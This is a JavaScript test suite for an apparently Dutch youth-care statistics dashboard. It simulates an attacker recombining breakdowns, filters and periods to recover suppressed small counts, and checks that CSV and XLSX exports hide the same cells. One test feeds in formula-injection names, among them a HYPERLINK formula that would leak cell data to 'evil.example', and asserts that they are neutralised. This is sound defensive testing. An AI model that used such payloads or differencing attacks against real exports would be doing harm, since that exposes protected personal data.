// disclosure-recovery.test.mjs: tries to recover hidden figures through every route a user has
// (issue 4: "Tests try to recover hidden values through every route a user has: other
// breakdowns, totals, exports, the API"). For a gemeente user, a provider user and a council
// member on the demo region, the same indicators are fetched by gemeente, aanbieder, categorie,
// wet, leeftijd and geslacht, in one and two dimensions, with and without filters, per quarter
// and per year, through the API and the page JSON. Everything shown is pooled as the attacker's
// knowledge, and every additive relation between the figures is applied until nothing new
// follows (linear elimination):
//   - a line of a breakdown: the total equals the sum of its members (rows, columns, margins);
//   - a filtered query: unfiltered = filtered + the rows the filter left out (differencing);
//   - periods: a year is the sum of its quarters (anchors start and einde only).
// The test fails when a figure hidden as too small (or hidden against differencing) follows
// from what was shown, when a filter's left-out rows follow as a small number, or when the same
// figure is hidden in one answer and shown in another. Then the CSV and XLSX exports of the same
// views must hide exactly the cells the JSON hides (as "." with the reason, never 0), and names
// that a spreadsheet would run as a formula must arrive neutralised.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import zlib from 'node:zlib';
import { startServer } from '../lib/server.mjs';
import { session } from './fixtures.mjs';

const ACTORS = [
    // login, count rounding of its audience, the minimum count of its audience
    { login: 'beleid.emmen', roundTo: 1, minCount: 10 },
    { login: 'kwaliteit.aanbieder', roundTo: 5, minCount: 10 },
    { login: 'raad.emmen', roundTo: 5, minCount: 10 },
];
// Additive indicators: trajectory units (each trajectory in exactly one cell of every
// dimension). Persons are not additive over cells (one person, two providers), so their
// totals are no sum of the members and no relation is claimed for them.
const INDICATORS = ['nieuwe_starts', 'jw_uitval', 'trajecten_actief', 'jw_tevredenheid'];
const PERIOD_ADDITIVE = new Set(['nieuwe_starts', 'jw_uitval', 'jw_tevredenheid']); // start/einde
const YEARS = { periode: 'jaar', van: '2023', tot: '2025' };
const QUARTERS = { periode: 'kwartaal', van: '2023-Q1', tot: '2025-Q4' };
const BREAKDOWNS = [
    [],
    ['gemeente'],
    ['aanbieder'],
    ['categorie'],
    ['wet'],
    ['leeftijd'],
    ['geslacht'],
    ['aanbieder', 'categorie'],
    ['categorie', 'aanbieder'],
    ['gemeente', 'wet'],
    ['wet', 'leeftijd'],
    ['aanbieder', 'geslacht'],
];
const FILTER_DIMS = ['wet', 'categorie', 'aanbieder', 'leeftijd'];
// Reasons (view JSON "verborgen.reden") that protect a small group; "secundair" cells are
// hidden only to protect others and "geen_gegevens" means nothing was counted (0).
const NO_DATA = 'geen_gegevens';
const PRIMARY = new Set(['klein_aantal', 'kleine_noemer', 'onder_minimum']);

let srv;
const who = {};
const ids = {}; // indicator code -> id

before(async () => {
    // The normal demo size: in the small one a provider's figures are all hidden, so there
    // would be nothing to recover from.
    srv = await startServer({ demo: true, omvang: 'normaal', startTimeoutMs: 180_000 });
    for (const a of ['beheerder', ...ACTORS.map((x) => x.login)]) who[a] = await session(srv.url, a);
    const r = await getJson('beheerder', '/api/v1/indicatoren?paginaGrootte=1000');
    for (const i of r.items) if (i.standaard) ids[i.code] = i.id;
    for (const c of INDICATORS) assert.ok(ids[c], `standard indicator ${c} missing`);
});

after(async () => {
    await srv?.stop();
});

async function fetchAs(login, p, accept = 'application/json') {
    const res = await fetch(srv.url + p, { headers: { cookie: who[login].cookie, accept }, redirect: 'manual' });
    const buf = Buffer.from(await res.arrayBuffer());
    return { status: res.status, headers: res.headers, buf };
}

async function getJson(login, p) {
    const r = await fetchAs(login, p);
    assert.equal(r.status, 200, `${login} GET ${p}: ${r.buf.toString().slice(0, 400)}`);
    return JSON.parse(r.buf.toString('utf8'));
}

function query(by, filter, period) {
    const q = new URLSearchParams(period);
    if (by[0]) q.set('per', by[0]);
    if (by[1]) q.set('per2', by[1]);
    // The unknown value (code "") is asked for as "onbekend": an empty parameter is no filter.
    for (const [d, c] of Object.entries(filter)) q.set(d, c === '' ? 'onbekend' : c);
    return q.toString();
}

// --- The attacker's knowledge ----------------------------------------------------------------

/** A figure's identity: its period and every (dimension = code) it is restricted to. */
function ident(period, constraints) {
    const parts = Object.entries(constraints)
        .sort(([a], [b]) => (a < b ? -1 : 1))
        .map(([d, c]) => `${d}=${c}`);
    return `${period}|${parts.join(',')}`;
}

class Knowledge {
    constructor(actor) {
        this.actor = actor;
        this.known = new Map(); // ident -> {den, num, err, how}
        this.hidden = new Map(); // ident -> {reasons:Set, where}
        this.lines = new Map(); // key -> {total, members, where}
        this.complements = new Set(); // idents that stand for rows a filter left out
        this.problems = [];
        this.err = Math.floor(actor.roundTo / 2); // error bound of one shown rounded count
    }

    /** Adds one answer: cells, their lines, and the filter's complement relations. */
    addView(v) {
        const { json, by, filter, where } = v;
        const cellsByPeriod = new Map();
        for (const c of json.cellen) {
            const cons = { ...filter };
            by.forEach((d, i) => {
                if (c.sleutel[i] !== null) cons[d] = c.sleutel[i];
            });
            const id = ident(c.periode, cons);
            this.addCell(id, c, where);
            if (!cellsByPeriod.has(c.periode)) cellsByPeriod.set(c.periode, []);
            cellsByPeriod.get(c.periode).push({ c, cons, id });
            // Differencing: every figure of a filtered answer plus the left-out rows is the
            // same figure without that filter.
            for (const [d, code] of Object.entries(filter)) {
                const base = { ...cons };
                delete base[d];
                const comp = ident(c.periode, { ...base, [d]: `!${code}` });
                this.complements.add(comp);
                this.addLine(ident(c.periode, base), [id, comp], `${where} (filter ${d}=${code})`);
            }
        }
        // Lines of the breakdown: absent members have no rows (0) and are left out.
        for (const [period, cells] of cellsByPeriod) {
            const keyed = (c, i) => c.sleutel[i] !== null;
            if (by.length === 1) {
                const members = cells.filter((x) => keyed(x.c, 0)).map((x) => x.id);
                this.addLine(ident(period, filter), members, where);
            } else if (by.length === 2) {
                for (const [i, j] of [
                    [0, 1],
                    [1, 0],
                ]) {
                    // Rows of dimension i: for each code of i, the cells over j plus the margin.
                    const groups = new Map();
                    for (const x of cells) {
                        if (!keyed(x.c, i) || !keyed(x.c, j)) continue;
                        const k = x.c.sleutel[i];
                        if (!groups.has(k)) groups.set(k, []);
                        groups.get(k).push(x.id);
                    }
                    for (const [k, members] of groups)
                        this.addLine(ident(period, { ...filter, [by[i]]: k }), members, where);
                    // The margin over i: the codes of j summed to the grand total.
                    const margin = cells.filter((x) => keyed(x.c, j) && !keyed(x.c, i)).map((x) => x.id);
                    this.addLine(ident(period, filter), margin, where);
                }
            }
        }
    }

    addCell(id, c, where) {
        if (c.verborgen) {
            if (c.verborgen.reden === NO_DATA) {
                this.learn(id, { den: 0, num: 0, err: 0, how: `${where}: geen gegevens` });
                return;
            }
            const h = this.hidden.get(id) ?? { reasons: new Set(), where: [] };
            h.reasons.add(c.verborgen.reden);
            h.where.push(where);
            this.hidden.set(id, h);
            return;
        }
        const den = c.noemer ?? c.n;
        const num = c.teller ?? c.n;
        this.learn(id, { den, num, err: this.err, how: `shown in ${where}` });
    }

    learn(id, fact) {
        const had = this.known.get(id);
        if (had) {
            // The same figure answered twice must agree (else one of them is not what it says).
            if (had.err === 0 && fact.err === 0 && (had.den !== fact.den || had.num !== fact.num))
                this.problems.push(`${id}: ${had.den}/${had.num} (${had.how}) but ${fact.den}/${fact.num} (${fact.how})`);
            return false;
        }
        this.known.set(id, fact);
        return true;
    }

    addLine(total, members, where) {
        if (!members.length) return;
        const key = `${total}=${[...members].sort().join('+')}`;
        if (!this.lines.has(key)) this.lines.set(key, { total, members, where });
    }

    /** Applies every line until nothing new follows. Returns the derived facts. */
    eliminate(periodLines = []) {
        for (const l of periodLines) this.addLine(l.total, l.members, l.where);
        const derived = [];
        let changed = true;
        while (changed) {
            changed = false;
            for (const l of this.lines.values()) {
                const all = [l.total, ...l.members];
                const unknown = all.filter((x) => !this.known.has(x));
                if (unknown.length !== 1) continue;
                const u = unknown[0];
                let den = 0;
                let num = 0;
                let err = 0;
                for (const m of l.members) {
                    if (m === u) continue;
                    const f = this.known.get(m);
                    den += f.den;
                    num += f.num;
                    err += f.err;
                }
                if (u !== l.total) {
                    const t = this.known.get(l.total);
                    den = t.den - den;
                    num = t.num - num;
                    err += t.err;
                }
                const fact = { den, num, err, how: `line ${l.total} = ${l.members.join(' + ')} (${l.where})` };
                this.learn(u, fact);
                derived.push({ id: u, ...fact });
                changed = true;
            }
        }
        return derived;
    }

    /**
     * What the attacker learned that the disclosure rules meant to keep back:
     *   - a figure hidden as too small, narrowed down to at most half of the values its reason
     *     leaves open (1 .. min_count - 1): exactly, for an audience without rounding; for a
     *     rounded audience every shown count is only known to within +-round_to/2, and the
     *     error bounds of all figures used add up;
     *   - the rows a filter left out, pinned down to a small number (1 .. min_count - 1);
     *   - a small figure hidden in one answer and shown in another.
     * Cells hidden for other reasons ("secundair", "complement") are not secrets themselves:
     * what they protect is a small figure or a left-out group, and that is what is checked.
     */
    leaks(derived) {
        const out = [];
        const { minCount } = this.actor;
        const small = (reasons) => [...reasons].filter((r) => PRIMARY.has(r));
        for (const d of derived) {
            const h = this.hidden.get(d.id);
            if (h && small(h.reasons).length) {
                const lo = Math.max(1, d.den - d.err);
                const hi = Math.min(minCount - 1, d.den + d.err);
                if (lo <= hi && hi - lo + 1 <= (minCount - 1) / 2)
                    out.push(`${d.id} hidden (${small(h.reasons).join(', ')} in ${h.where[0]}) recovered as ${d.den}±${d.err} (teller ${d.num}) from ${d.how}`);
            }
            if (this.complements.has(d.id) && d.den - d.err >= 1 && d.den + d.err <= minCount - 1)
                out.push(`left-out rows ${d.id} recovered as ${d.den}±${d.err} (< ${minCount}) from ${d.how}`);
        }
        for (const [id, h] of this.hidden) {
            const k = this.known.get(id);
            if (k && small(h.reasons).length && k.how.startsWith('shown'))
                out.push(`${id} hidden (${small(h.reasons).join(', ')}) in ${h.where[0]} but ${k.how}: ${k.den}`);
        }
        return out;
    }
}

/** Year = its four quarters, for the identities seen in both a yearly and a quarterly answer. */
function periodLines(k) {
    const byRest = new Map(); // constraints part -> set of periods
    for (const id of [...k.known.keys(), ...k.hidden.keys()]) {
        const [p, rest] = id.split('|');
        if (!byRest.has(rest)) byRest.set(rest, new Set());
        byRest.get(rest).add(p);
    }
    const lines = [];
    for (const [rest, periods] of byRest)
        for (const p of periods) {
            if (!/^\d{4}$/.test(p)) continue;
            const members = [1, 2, 3, 4].map((q) => `${p}-Q${q}|${rest}`);
            lines.push({ total: `${p}|${rest}`, members, where: 'year = 4 quarters' });
        }
    return lines;
}

/** The codes of a dimension in an unfiltered one-dimensional answer, smallest groups first. */
function codesOf(json) {
    const seen = new Map();
    for (const c of json.cellen) {
        const k = c.sleutel[0];
        if (k === null) continue;
        const n = c.verborgen ? -1 : c.noemer ?? c.n;
        seen.set(k, Math.min(seen.get(k) ?? Infinity, n));
    }
    return [...seen.entries()].sort((a, b) => a[1] - b[1]).map(([k]) => k);
}

const collected = new Map(); // "login code" -> Promise of {k, views}

/** All answers of one actor about one indicator, pooled (fetched once, shared by the tests). */
function collect(actor, code) {
    const key = `${actor.login} ${code}`;
    if (!collected.has(key)) collected.set(key, collectNow(actor, code));
    return collected.get(key);
}

async function collectNow(actor, code) {
    const k = new Knowledge(actor);
    const id = ids[code];
    const views = [];
    const add = async (by, filter, period, route = 'api') => {
        const q = query(by, filter, period);
        const p = route === 'api' ? `/api/v1/indicatoren/${id}/uitkomsten?${q}` : `/indicatoren/${id}.json?${q}`;
        const r = await fetchAs(actor.login, p);
        if (r.status === 400) return null; // a question this indicator cannot answer
        assert.equal(r.status, 200, `${actor.login} ${p}: ${r.buf.toString().slice(0, 300)}`);
        const json = JSON.parse(r.buf.toString('utf8'));
        const v = { json, by, filter, where: `${route} ${q}` };
        k.addView(v);
        views.push(v);
        return json;
    };
    const firstCodes = {};
    for (const period of [YEARS, QUARTERS])
        for (const by of BREAKDOWNS) {
            const j = await add(by, {}, period);
            if (j && by.length === 1 && FILTER_DIMS.includes(by[0]) && period === YEARS)
                firstCodes[by[0]] = codesOf(j);
        }
    // Filtered questions: the three smallest groups of each filter dimension, and the largest.
    for (const d of FILTER_DIMS) {
        const codes = firstCodes[d] ?? [];
        const pick = [...new Set([...codes.slice(0, 3), codes[codes.length - 1]])].filter((c) => c !== undefined);
        for (const c of pick)
            for (const by of [[], ['gemeente'], [d === 'categorie' ? 'aanbieder' : 'categorie']])
                for (const period of [YEARS, QUARTERS]) await add(by, { [d]: c }, period);
    }
    // The page's JSON is another route to the same figures.
    for (const by of [[], ['aanbieder'], ['categorie']]) await add(by, {}, YEARS, 'page');
    return { k, views };
}

for (const actor of ACTORS) {
    test(`${actor.login}: no hidden figure follows from other breakdowns, totals or filters`, async () => {
        const report = [];
        let hiddenTotal = 0;
        let linesTotal = 0;
        for (const code of INDICATORS) {
            const { k } = await collect(actor, code);
            const derived = k.eliminate();
            hiddenTotal += k.hidden.size;
            linesTotal += k.lines.size;
            for (const l of k.leaks(derived)) report.push(`${code}: ${l}`);
            for (const p of k.problems) report.push(`${code}: inconsistent answers: ${p}`);
        }
        // The demo is small: there must be hidden figures, or nothing was tested.
        assert.ok(hiddenTotal > 20, `${actor.login}: only ${hiddenTotal} hidden figures in the demo`);
        assert.ok(linesTotal > 100, `${actor.login}: only ${linesTotal} additive relations`);
        assert.deepEqual(report.slice(0, 25), [], `${report.length} recoveries for ${actor.login}`);
    });

    test(`${actor.login}: no hidden figure follows from adding up periods (year = quarters)`, async () => {
        const report = [];
        for (const code of INDICATORS.filter((c) => PERIOD_ADDITIVE.has(c))) {
            const { k } = await collect(actor, code);
            const derived = k.eliminate(periodLines(k));
            for (const l of k.leaks(derived)) report.push(`${code}: ${l}`);
        }
        assert.deepEqual(report.slice(0, 25), [], `${report.length} recoveries for ${actor.login}`);
    });
}

// --- Exports: the same cells hidden as in the JSON -------------------------------------------

/** RFC 4180 CSV with ';' (as export.c writes it). */
function parseCsv(text) {
    const rows = [];
    let row = [];
    let field = '';
    let quoted = false;
    for (let i = 0; i < text.length; i++) {
        const ch = text[i];
        if (quoted) {
            if (ch === '"' && text[i + 1] === '"') {
                field += '"';
                i++;
            } else if (ch === '"') quoted = false;
            else field += ch;
        } else if (ch === '"' && field === '') quoted = true;
        else if (ch === ';') {
            row.push(field);
            field = '';
        } else if (ch === '\r' && text[i + 1] === '\n') {
            row.push(field);
            rows.push(row);
            row = [];
            field = '';
            i++;
        } else field += ch;
    }
    if (field !== '' || row.length) {
        row.push(field);
        rows.push(row);
    }
    return rows;
}

/** The entries of a zip archive (stored or deflated) as name -> Buffer. */
function unzip(buf) {
    const files = new Map();
    let eocd = buf.length - 22;
    while (eocd >= 0 && buf.readUInt32LE(eocd) !== 0x06054b50) eocd--;
    assert.ok(eocd >= 0, 'no zip end record');
    const count = buf.readUInt16LE(eocd + 10);
    let off = buf.readUInt32LE(eocd + 16);
    for (let i = 0; i < count; i++) {
        assert.equal(buf.readUInt32LE(off), 0x02014b50, 'zip central directory');
        const method = buf.readUInt16LE(off + 10);
        const csize = buf.readUInt32LE(off + 20);
        const nlen = buf.readUInt16LE(off + 28);
        const xlen = buf.readUInt16LE(off + 30);
        const clen = buf.readUInt16LE(off + 32);
        const local = buf.readUInt32LE(off + 42);
        const name = buf.subarray(off + 46, off + 46 + nlen).toString('utf8');
        const lnlen = buf.readUInt16LE(local + 26);
        const lxlen = buf.readUInt16LE(local + 28);
        const data = buf.subarray(local + 30 + lnlen + lxlen, local + 30 + lnlen + lxlen + csize);
        files.set(name, method === 8 ? zlib.inflateRawSync(data) : Buffer.from(data));
        off += 46 + nlen + xlen + clen;
    }
    return files;
}

const xmlText = (s) =>
    s.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&apos;/g, "'").replace(/&#(\d+);/g, (_, n) => String.fromCodePoint(Number(n))).replace(/&amp;/g, '&');

/** A worksheet of an XLSX as rows of {value, type, formula}; also the raw sheet XML. */
function readSheet(files, n) {
    const shared = [];
    const ss = files.get('xl/sharedStrings.xml')?.toString('utf8') ?? '';
    for (const m of ss.matchAll(/<si>([\s\S]*?)<\/si>/g))
        shared.push([...m[1].matchAll(/<t[^>]*>([\s\S]*?)<\/t>/g)].map((t) => xmlText(t[1])).join(''));
    const xml = files.get(`xl/worksheets/sheet${n}.xml`)?.toString('utf8');
    assert.ok(xml, `sheet${n}.xml missing`);
    const col = (ref) => [...ref.replace(/\d+$/, '')].reduce((a, ch) => a * 26 + ch.charCodeAt(0) - 64, 0) - 1;
    const rows = [];
    for (const r of xml.matchAll(/<row\b[^>]*?(?:\/>|>([\s\S]*?)<\/row>)/g)) {
        const row = [];
        for (const c of (r[1] ?? '').matchAll(/<c\b([^>]*?)(?:\/>|>([\s\S]*?)<\/c>)/g)) {
            const ref = c[1].match(/\br="([A-Z]+\d+)"/)[1];
            const type = c[1].match(/\bt="([^"]*)"/)?.[1] ?? 'n';
            const body = c[2] ?? '';
            const v = body.match(/<v>([\s\S]*?)<\/v>/)?.[1];
            const formula = /<f\b/.test(body);
            let value = v === undefined ? '' : xmlText(v);
            if (type === 's') value = shared[Number(v)];
            if (type === 'inlineStr') value = xmlText(body.match(/<t[^>]*>([\s\S]*?)<\/t>/)?.[1] ?? '');
            row[col(ref)] = { value, type, formula };
        }
        rows.push(row);
    }
    return { rows, xml };
}

const round1 = (x) => Math.round(x * 10) / 10;

/** Compares the rows of an export with the JSON cells of the same view, in order. */
function sameAsJson(json, by, header, rows, kind) {
    const col = (name) => header.indexOf(name);
    const iValue = col('Waarde');
    const iN = col('Aantal (n)');
    const iReason = header.length - 1;
    assert.ok(iValue > 0 && iN > 0, `${kind} header: ${header.join(';')}`);
    assert.equal(rows.length, json.cellen.length, `${kind}: ${rows.length} rows for ${json.cellen.length} cells`);
    json.cellen.forEach((c, i) => {
        const r = rows[i];
        const where = `${kind} row ${i + 2}: ${JSON.stringify(r)} vs ${JSON.stringify(c)}`;
        by.forEach((d, k) => assert.equal(r[2 + 2 * k + 1] ?? '', c.sleutel[k] ?? '', `code of ${d}, ${where}`));
        if (c.verborgen) {
            assert.equal(r[iValue], '.', where);
            assert.equal(r[iN], '.', where);
            assert.ok((r[iReason] ?? '').length > 5, `reason missing: ${where}`);
        } else {
            assert.notEqual(r[iValue], '.', where);
            assert.equal(Number(String(r[iValue]).replace(',', '.')), round1(c.waarde), where);
            assert.equal(Number(r[iN]), c.n, where);
            assert.equal(r[iReason] ?? '', '', where);
        }
    });
}

test('CSV and XLSX exports hide exactly the cells the JSON hides, as "." and never 0', async () => {
    let compared = 0;
    let hidden = 0;
    for (const actor of ACTORS)
        for (const code of ['jw_uitval', 'nieuwe_starts'])
            for (const by of [[], ['aanbieder'], ['categorie', 'wet'], ['gemeente']]) {
                const q = query(by, {}, YEARS);
                const id = ids[code];
                const json = await getJson(actor.login, `/api/v1/indicatoren/${id}/uitkomsten?${q}`);
                hidden += json.cellen.filter((c) => c.verborgen).length;

                const csv = await fetchAs(actor.login, `/indicatoren/${id}/export.csv?${q}`, 'text/csv');
                assert.equal(csv.status, 200, csv.buf.toString().slice(0, 300));
                assert.match(csv.headers.get('content-type'), /^text\/csv/);
                assert.match(csv.headers.get('content-disposition'), /^attachment; filename="[a-z0-9_.-]+\.csv"$/);
                assert.deepEqual([...csv.buf.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 BOM');
                const crow = parseCsv(csv.buf.subarray(3).toString('utf8'));
                sameAsJson(json, by, crow[0], crow.slice(1), `CSV ${actor.login} ${code} ${q}`);

                const x = await fetchAs(actor.login, `/indicatoren/${id}/export.xlsx?${q}`);
                assert.equal(x.status, 200, x.buf.toString().slice(0, 300));
                assert.match(x.headers.get('content-disposition'), /^attachment; filename="[a-z0-9_.-]+\.xlsx"$/);
                const files = unzip(x.buf);
                const sheet = readSheet(files, 1);
                assert.doesNotMatch(sheet.xml, /<f\b/, 'no formulas in an export');
                const header = sheet.rows[0].map((c) => c?.value ?? '');
                const xrows = sheet.rows.slice(1).map((r) => header.map((_, i) => (r[i] ? String(r[i].value) : '')));
                sameAsJson(json, by, header, xrows, `XLSX ${actor.login} ${code} ${q}`);
                // Shown figures are numbers, hidden ones the text ".".
                for (const r of sheet.rows.slice(1)) {
                    const v = r[header.indexOf('Waarde')];
                    assert.ok(v && (v.type === 'n' || (v.type === 's' && v.value === '.')), JSON.stringify(v));
                }
                const notes = readSheet(files, 2);
                const text = notes.rows.map((r) => r.map((c) => c?.value ?? '').join('|')).join('\n');
                assert.match(text, /Toelichting/);
                assert.match(text, /Peildatum/);
                compared += json.cellen.length;
            }
    assert.ok(compared > 50 && hidden > 0, `compared ${compared} cells, ${hidden} hidden`);
});

test('export of another gemeente or a missing indicator is refused; bad parameters are 400', async () => {
    const id = ids.nieuwe_starts;
    const r = await fetchAs('beleid.emmen', `/indicatoren/${id}/export.csv?per=schoenmaat`);
    assert.equal(r.status, 400);
    assert.equal((await fetchAs('beleid.emmen', '/indicatoren/987654321/export.csv')).status, 404);
    assert.equal((await fetchAs('beleid.emmen', '/indicatoren/987654321/export.xlsx')).status, 404);
    const anon = await fetch(`${srv.url}/indicatoren/${id}/export.csv`, { redirect: 'manual' });
    assert.equal(anon.status, 303);
    assert.match(anon.headers.get('location'), /^\/inloggen/);
});

test('formula injection: names starting with = + - @ are neutralised in CSV and stay text in XLSX', async () => {
    const names = [
        '=HYPERLINK("http://evil.example/?"&A1;"Klik hier")',
        '+31 20 123 4567 bellen',
        '-2+3 starts',
        '@SUM(1+1) starts',
        '  =1+1 met spaties ervoor',
    ];
    const sess = who['beleid.emmen'];
    for (const [i, naam] of names.entries()) {
        const body = {
            versie: 1,
            code: `formule_${i}_${process.pid}`,
            naam,
            uitleg: 'Test van formule-injectie in exports.',
            eenheid: 'traject',
            anker: 'start',
            aggregatie: 'aantal',
            populatie: 'waar',
            polariteit: 'neutraal',
            kwadrant: 'hoeveel',
            eenheid_waarde: 'aantal',
        };
        const res = await fetch(`${srv.url}/api/v1/indicatoren`, {
            method: 'POST',
            headers: { cookie: sess.cookie, 'x-csrf-token': sess.csrf, 'content-type': 'application/json', accept: 'application/json' },
            body: JSON.stringify(body),
        });
        const created = await res.json();
        assert.equal(res.status, 201, JSON.stringify(created));
        const stored = created.definitie.naam; // as the definition keeps it (may be trimmed)
        const q = query([], {}, YEARS);

        const csv = await fetchAs('beleid.emmen', `/indicatoren/${created.id}/export.csv?${q}`);
        assert.equal(csv.status, 200, csv.buf.toString().slice(0, 300));
        const rows = parseCsv(csv.buf.subarray(3).toString('utf8'));
        assert.ok(rows.length > 1, 'the export has rows');
        for (const r of rows.slice(1)) {
            assert.equal(r[0], `'${stored}`, `CSV cell not neutralised: ${JSON.stringify(r[0])}`);
            // No field may begin with a formula character once leading blanks are skipped.
            for (const f of r) assert.doesNotMatch(f, /^[\s]*[=+\-@]/, `risky CSV field ${JSON.stringify(f)}`);
        }

        const x = await fetchAs('beleid.emmen', `/indicatoren/${created.id}/export.xlsx?${q}`);
        assert.equal(x.status, 200);
        const files = unzip(x.buf);
        for (const n of [1, 2]) {
            const sheet = readSheet(files, n);
            assert.doesNotMatch(sheet.xml, /<f\b/, `a formula in sheet ${n}`);
        }
        const sheet = readSheet(files, 1);
        for (const r of sheet.rows.slice(1)) {
            assert.ok(r[0].type === 's' || r[0].type === 'inlineStr' || r[0].type === 'str', JSON.stringify(r[0]));
            assert.equal(r[0].value, stored);
        }
    }
});
